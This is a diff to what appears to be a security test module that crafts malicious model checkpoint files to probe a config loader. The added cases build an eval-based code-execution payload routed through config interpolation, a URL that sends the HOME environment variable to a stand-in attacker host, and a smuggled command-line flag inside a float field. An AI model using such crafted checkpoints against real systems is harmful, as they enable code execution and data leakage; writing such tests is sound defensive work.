@@ -193,7 +193,26 @@ def _eval_field_in_legacy_args(state, sentinel, data):
     return save(as_legacy(state, args, decoder_layers=eval_payload(sentinel)), sentinel.parent / "evil.pt", False)
 
 
+def _interpolated_model_name(state, sentinel, data):
+    """Issue #22: an interpolation picks fconv (which eval()s decoder_layers) after any check."""
+    state = place_in_cfg(state, "task", "picked", "fconv")
+    state = place_in_cfg(state, "model", "decoder_layers", eval_payload(sentinel))
+    return save(place_in_cfg(state, "model", "_name", "${task.picked}"), sentinel.parent / "evil.pt")
+
+
+def _env_to_url(state, sentinel, data):
+    state = place_in_cfg(state, "bpe", "sentencepiece_model", "https://attacker.invalid/${oc.env:HOME}")
+    return save(place_in_cfg(state, "bpe", "_name", "sentencepiece"), sentinel.parent / "evil.pt")
+
+
+def _string_in_a_float(state, sentinel, data):
+    return save(place_in_cfg(state, "model", "dropout", "0.1 --cpu"), sentinel.parent / "evil.pt")
+
+
 CRAFTED = {
+    "interpolated-model-name": (_interpolated_model_name, False),
+    "env-variable-to-url": (_env_to_url, False),
+    "string-in-a-float": (_string_in_a_float, False),
     "pickle-in-cfg": (_pickle_in_cfg, False),
     "pickle-in-cfg-env-var": (_pickle_in_cfg, True),
     "pickle-in-args-legacy-format-env-var": (_pickle_in_args_legacy_format, True),
